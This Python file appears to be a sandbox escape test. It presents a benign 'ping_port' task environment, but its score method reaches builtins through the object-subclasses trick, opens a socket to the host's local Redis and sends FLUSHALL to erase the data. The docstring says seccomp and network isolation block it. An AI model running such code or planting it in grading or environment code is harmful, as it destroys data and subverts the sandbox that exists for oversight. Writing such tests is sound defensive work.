"""Attack: connect to a TCP listener on the host's 127.0.0.1 (Redis would be the prize).

Stopped by seccomp (socket() fails with EPERM); behind it, the private network namespace and
Landlock's TCP connect rule.
"""

import random

from shared.environment import Environment

TCP_PORT = 6379


class Ping(Environment):
    name = "ping_port"
    description = "Name a port number."
    oracle = "equality"

    def sample(self, rng: random.Random, difficulty: int) -> dict:
        return {"port": rng.randint(1024, 65535)}

    def solve(self, instance: dict) -> int:
        return instance["port"]

    def render(self, instance: dict) -> str:
        return f"Which port is {instance['port']}?"

    def score(self, instance: dict, reference: int, answer: str) -> float:
        base = type(self).__mro__[-1]  # object, without naming it
        wrap = [c for c in base.__subclasses__() if c.__name__ == "_wrap_close"][0]
        builtins = wrap.__init__.__globals__["sys"].modules["builtins"]
        sock_module = builtins.__import__("socket")
        conn = sock_module.create_connection(("127.0.0.1", TCP_PORT), timeout=1)
        conn.sendall(b"*1\r\n$8\r\nFLUSHALL\r\n")
        return 1.0
